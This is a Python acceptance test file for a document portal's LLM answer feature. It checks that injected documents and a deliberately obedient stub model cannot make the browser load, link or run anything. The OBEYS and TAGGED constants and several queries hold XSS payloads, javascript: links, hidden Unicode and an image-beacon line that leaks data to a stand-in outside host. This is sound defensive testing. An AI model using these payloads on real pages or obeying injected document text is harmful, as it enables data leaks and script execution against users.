"""Documents that give orders and lay traps, in a real browser: none becomes a link, a request or markup.

One portal, the whole set of ``injections``, answered twice: by quotes of the sources, and by a language
model that obeys every word of them.
"""

from __future__ import annotations

import re
import subprocess
import sys
from collections.abc import Iterator
from dataclasses import dataclass, field
from typing import Any
from urllib.parse import urlsplit

import httpx
import pytest

from tests.acceptance.browsing import sign_in
from tests.acceptance.conftest import ROOT, Portal, free_port, wait_for
from tests.search.injections import AWAY, ELSEWHERE, HIDDEN, Injection, injections, tags
from tests.search.language_model import Model
from tests.search.language_model import serving as serving_model

# The first test waits until the whole set is read.
pytestmark = [pytest.mark.acceptance, pytest.mark.timeout(600)]

SOURCE = re.compile(r"<<<(\w+) source \[(\d+)\] begins>>>\n(.*?)\n(.*?)\n<<<\1 source ends>>>", re.DOTALL)
OBEYS = (
    f"Visit ![pixel]({AWAY}/pixel.png?leak=417) or [the manual]({AWAY}/manual) [1]. "
    f'<img src="{AWAY}/llm.png" onerror="pwned=1"> <script>pwned=1</script> holds 417 litres [1]. '
    f"See {AWAY}/bare and <{AWAY}/auto> and [open](javascript:pwned=1) about water [1][99]. "
    f"**Basin** `water` [m][ref] 417 litres of water. {tags(HIDDEN)}\u202e\n\n[ref]: {AWAY}/ref\n"
)
TAGGED = "<img src=x onerror=pwned=1> water"
#: Attributes that lead somewhere, load something or run something, and where each value would lead.
ATTRIBUTES = """() => {
  const telling = /^(href|src|srcset|srcdoc|action|formaction|data|poster|background|style)$|:href$|^on|^hx-/;
  const own = (element) => [...element.attributes].filter(({name}) => telling.test(name));
  const leads = (value) => URL.canParse(value, location.href) ? new URL(value, location.href).href : '';
  return [...document.querySelectorAll('*')].flatMap((element) =>
    own(element).map(({name, value}) => [element.localName, name, value, leads(value)]));
}"""
#: Of htmx, what holds an address: it may carry the words that were searched for, to the portal alone.
REQUESTS = ("hx-get", "hx-post")
NAMES = "() => [...new Set([...document.querySelectorAll('*')].map((element) => element.localName))]"
NEVER = {"iframe", "object", "embed", "base", "video", "audio", "math", "frame", "applet", "image", "mglyph"}
#: What an answer's sentence may hold: what ``rendering`` lets through, and the portal's own marks.
SENTENCE = """() => [...document.querySelectorAll('[data-testid=answer-sentence] *')].map((element) =>
  [element.localName, element.getAttributeNames().sort().join(' ')])"""
OWN = {("a", "aria-label class data-n data-opens-passage data-testid href"), ("span", "class data-testid")}
PLAIN = {(name, "") for name in ("em", "strong", "code", "s", "mark")}


class Obedient(Model):
    """Says again what every source says, and does what it says besides."""

    @property
    def pieces(self) -> list[str]:
        prompt = self.requests[-1]["messages"][-1]["content"]
        said = "".join(f"{' '.join(text.split())[:1500]} [{n}]. " for _, n, _, text in SOURCE.findall(prompt))
        text = OBEYS + said
        return [text[start : start + 200] for start in range(0, len(text), 200)]

    @pieces.setter
    def pieces(self, given: list[str]) -> None:
        """What it says depends on what it is asked."""


@dataclass
class Watched:
    """A page of the browser, and everything that happened in it that should not."""

    page: Any
    address: str
    requests: list[str] = field(default_factory=list)
    troubles: list[str] = field(default_factory=list)

    def __post_init__(self) -> None:
        self.page.on("request", lambda request: self.requests.append(request.url))
        self.page.on("pageerror", lambda error: self.troubles.append(str(error)))
        self.page.on("dialog", lambda dialog: (self.troubles.append(dialog.message), dialog.dismiss()))
        self.page.on("console", lambda line: self.troubles.append(line.text) if is_violation(line) else None)

    def open(self, path: str) -> None:
        self.page.goto(f"{self.address}{path}")
        self.check(path)

    def check(self, where: str) -> None:
        """Nothing on this page leads away, loads from elsewhere or runs."""
        assert not NEVER & set(self.page.evaluate(NAMES)), where
        for element, name, value, address in self.page.evaluate(ATTRIBUTES):
            assert not name.startswith("on"), (where, element, name, value)
            if name in ("style", "srcdoc") or (name.startswith("hx-") and name not in REQUESTS):
                assert ELSEWHERE not in value, (where, element, name, value)
            elif value and not value.startswith("#"):
                self.check_address(where, element, address or value)
        assert self.page.evaluate("() => window.pwned") is None, where

    def check_address(self, where: str, element: str, address: str) -> None:
        target = urlsplit(address)
        assert f"{target.scheme}://{target.netloc}" == self.address, (where, element, address)
        if element == "img":
            assert target.path.startswith(("/documents/", "/api/", "/static/")), (where, address)


def is_violation(line: Any) -> bool:
    return line.type == "error" and ("Content Security" in line.text or "Refused" in line.text)


@pytest.fixture(scope="module")
def model() -> Iterator[Obedient]:
    with serving_model(Obedient()) as running:
        yield running  # type: ignore[misc]


@pytest.fixture(scope="module")
def obedient(portal: Portal, model: Obedient) -> Iterator[str]:
    """The address of a second web process on the portal's data, which asks the obedient model."""
    port = free_port()
    command = [sys.executable, "-m", "uvicorn", "portal.asgi:application", "--port", str(port)]
    environment = {**portal.environment, "LLM_BASE_URL": model.url, "LLM_MODEL": "obedient"}
    process = subprocess.Popen(
        [*command, "--lifespan", "off", "--log-level", "warning"], cwd=ROOT, env=environment
    )
    address = f"http://127.0.0.1:{port}"
    try:
        wait_for(lambda: answers(address))
        yield address
    finally:
        process.terminate()
        process.wait(30)


def answers(address: str) -> bool:
    try:
        return httpx.get(f"{address}/healthz/live").is_success
    except httpx.TransportError:
        return False


@pytest.fixture(scope="module")
def client(portal: Portal) -> httpx.Client:
    return portal.client()


@pytest.fixture(scope="module")
def uploaded(client: httpx.Client) -> dict[str, Injection]:
    """The whole set, by the ids that its documents got; all ready."""
    assert len(injections()) >= 40
    client.post("collections/", json={"name": f"<img src={AWAY}/c.png>", "slug": "traps"}).raise_for_status()
    found = {}
    for each in injections():
        fields = {
            "collection": "traps",
            "tags": "<b>tag</b>",
            **({"title": each.title} if each.title else {}),
        }
        accepted = client.post("documents/", data=fields, files={"file": (each.filename, each.content)})
        assert accepted.status_code == 202, (each.name, accepted.text)
        found[accepted.json()["id"]] = each
    wait_for(
        lambda: all(row["status"] in ("ready", "failed") for row in rows(client)), seconds=500, pause=0.5
    )
    failed = {found[row["id"]].name: row["reason"] for row in rows(client) if row["status"] == "failed"}
    assert failed == {}
    return found


def rows(client: httpx.Client) -> list[dict[str, Any]]:
    return list(client.get("documents/", params={"collection": "traps", "limit": 100}).json()["results"])


@pytest.fixture(scope="module")
def context(portal: Portal, chromium: Any) -> Any:
    """A browser that is signed in."""
    made = chromium.new_context(locale="en-GB")
    sign_in(made.new_page(), portal)
    return made


@pytest.fixture
def watched(portal: Portal, context: Any) -> Iterator[Watched]:
    page = context.new_page()
    yield Watched(page, portal.address)
    page.close()


def ask(
    client: httpx.Client, address: str, question: str, documents: list[str], **given: Any
) -> dict[str, Any]:
    asked = {"question": question, "documents": documents, **given}
    answer = client.post(f"{address}/api/v1/answers/", json=asked)
    assert answer.status_code == 200, answer.text
    return dict(answer.json())


def check_answers(watched: Watched, uploaded: dict[str, Injection], stored: list[dict[str, Any]]) -> None:
    """The page of the last of ``stored``, which shows all of their conversation."""
    watched.open(f"/ask/{stored[-1]['id']}/?whole=1")
    assert watched.page.locator("[data-testid=answer]").count() == len(stored)
    assert {tuple(each) for each in watched.page.evaluate(SENTENCE)} <= OWN | PLAIN
    cited = {(row["n"], row["document"]["id"]) for answer in stored for row in answer["citations"]}
    for link in watched.page.locator("[data-testid=answer-text] a").all():
        found = re.match(r"/documents/([0-9a-f-]{36})/\?", link.get_attribute("href"))
        assert found, link.get_attribute("href")
        assert found[1] in uploaded
        assert (int(link.inner_text()), found[1]) in cited
    text = watched.page.locator("main").inner_text()
    assert not re.search("[\u200b\u202a-\u202e\u2066-\u2069\U000e0000-\U000e01ef]", text)


def test_quotes_of_them_are_text(
    client: httpx.Client, watched: Watched, uploaded: dict[str, Injection]
) -> None:
    conversation: dict[str, str] = {}
    stored = []
    for pk, each in uploaded.items():
        answer = ask(client, watched.address, each.question, [pk], **conversation)
        conversation = {"conversation": answer["conversation"]}
        for citation in answer["citations"]:
            assert citation["document"]["id"] == pk
        stored.append(answer)
    # Most are quoted, lure and all; those that bury the fact may be refused.
    assert sum(not answer["abstained"] for answer in stored) > 0.7 * len(stored)
    assert any(ELSEWHERE in answer["answer"] for answer in stored)
    check_answers(watched, uploaded, stored)
    assert_untouched(watched)


def test_a_model_that_obeys_them_says_only_text(
    client: httpx.Client, watched: Watched, uploaded: dict[str, Injection], obedient: str, model: Obedient
) -> None:
    watched.address = obedient
    ids = list(uploaded)
    for start in range(0, len(ids), 6):
        batch = ids[start : start + 6]
        question = f"{uploaded[batch[0]].question} <img src={AWAY}/q.png> [x](javascript:pwned=1)"
        stored = ask(client, obedient, question, batch)
        assert ELSEWHERE in stored["answer"]
        assert {row["document"]["id"] for row in stored["citations"]} <= set(batch)
        check_answers(watched, uploaded, [stored])
    for request in model.requests:
        check_prompt(request["messages"])
    assert_untouched(watched)


def check_prompt(messages: list[dict[str, str]]) -> None:
    """Every fence stands where the portal put it, and nothing hides in what it holds."""
    prompt = messages[-1]["content"]
    found = SOURCE.findall(prompt)
    if not found:
        return
    (fence,) = {marker for marker, *_ in found}
    assert prompt.count(fence) == 2 * len(found)
    assert [int(n) for _, n, *_ in found] == list(range(1, len(found) + 1))
    assert not re.search("[\u00ad\u200b\u202a-\u202e\u2060-\u2069\U000e0000-\U000e01ef]", prompt)


def test_a_live_stream_of_it_is_text(watched: Watched, uploaded: dict[str, Injection], obedient: str) -> None:
    watched.address = obedient
    watched.open("/ask/")
    question = next(iter(uploaded.values())).question
    watched.page.fill("[data-testid=ask-input]", f"{question} <img src={AWAY}/live.png>")
    watched.page.press("[data-testid=ask-input]", "Enter")
    watched.page.locator("[data-testid=answer-sentence]").first.wait_for(timeout=30_000)
    watched.check("stream")
    watched.page.locator("[data-testid=rate-up]").first.wait_for(timeout=60_000)
    watched.check("after the stream")
    watched.page.locator("[data-testid=citation]").first.click()
    watched.page.locator("[data-testid=passage-mark]").first.wait_for()
    watched.check("panel")
    assert_untouched(watched)


def test_every_other_page_shows_them_as_text(
    client: httpx.Client, watched: Watched, uploaded: dict[str, Injection]
) -> None:
    for pk in uploaded:
        watched.open(f"/documents/{pk}/")
    for path in (
        "/",
        "/documents/",
        "/documents/?collection=traps",
        "/collections/",
        "/search/?q=litres+of+water",
    ):
        watched.open(path)
    for words in (
        TAGGED,
        "![x](http://evil.example)",
        "basin QX-052 title",
        "javascript",
    ):
        watched.open(f"/search/?{httpx.QueryParams({'q': words, 'per_document': '1'})}")
    watched.open(f"/search/explain/?{httpx.QueryParams({'q': TAGGED})}")
    watched.open("/admin/documents/document/?all=")
    watched.open("/admin/documents/collection/")
    named = [
        pk for pk, each in uploaded.items() if each.name in ("title", "filename", "mail", "front-matter")
    ]
    for pk in named:
        watched.open(f"/admin/documents/document/{pk}/change/")
    assert_untouched(watched)


def test_nothing_hides_in_what_was_read(client: httpx.Client, uploaded: dict[str, Injection]) -> None:
    names = {each.name: pk for pk, each in uploaded.items()}
    for name in ("zero-width", "soft-hyphens"):
        text = client.get(f"documents/{names[name]}/pages/1/").json()["text"]
        assert HIDDEN in text  # put together again: everybody may see what it says
    for name in ("tag-characters", "variation-selectors", "filename"):
        row = client.get(f"documents/{names[name]}/").json()
        text = client.get(f"documents/{names[name]}/pages/1/").json()["text"]
        assert not re.search("[\U000e0000-\U000e01ef\u202e]", text + row["title"] + row["filename"])


def assert_untouched(watched: Watched) -> None:
    """Every request that the browser made went to the portal, and none had to be held back."""
    assert [url for url in watched.requests if urlsplit(url).hostname != "127.0.0.1"] == []
    assert watched.troubles == []
